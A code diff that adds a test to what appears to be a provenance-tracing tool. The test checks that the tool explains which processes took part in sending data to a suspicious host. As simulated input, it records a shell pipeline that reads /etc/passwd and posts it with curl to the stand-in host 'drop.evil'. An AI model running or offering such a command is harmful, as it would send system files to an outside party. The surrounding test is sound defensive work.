@@ -98,6 +98,29 @@ describe('children that do the same again and again', () => {
   });
 });
 
+describe('a pipeline', () => {
+  it('is told as a whole: who ended while the sender ran, before it sent', async () => {
+    const fn = new Recorded('convert', new Clock());
+    fn.begin('req', from('evil'));
+    const sh = fn.spawn(fn.runtime, 40, ['sh', '-c', 'cat /etc/passwd | curl …; true']);
+    const cat = fn.spawn(sh, 41, ['cat', '/etc/passwd']);
+    const curl = fn.spawn(sh, 42, ['curl', 'drop.evil']);
+    fn.exit(cat);
+    fn.exchange(curl, { host: 'drop.evil', method: 'POST', request: { bytes: 500 } });
+    fn.exit(curl);
+    const later = fn.spawn(sh, 43, ['true']);
+    fn.exit(later);
+    // What else the runtime runs at the time has no pipe to the shell.
+    fn.exit(fn.spawn(fn.runtime, 44, ['date']));
+    fn.end();
+    const told = await story(provenanceOf([fn]), hostId('drop.evil'), OPTIONS);
+    const programs = told.steps
+      .filter(({ kind }) => kind === 'process')
+      .map(({ label, sure }) => `${label.split(' ')[0]} ${sure}`);
+    expect(programs.sort()).toEqual(['/var/lang/bin/node exact', 'cat inferred', 'curl exact', 'sh exact']);
+  });
+});
+
 describe('what is sent before any request', () => {
   it('comes from the code that was deployed', async () => {
     const fn = new Recorded('quote', new Clock());
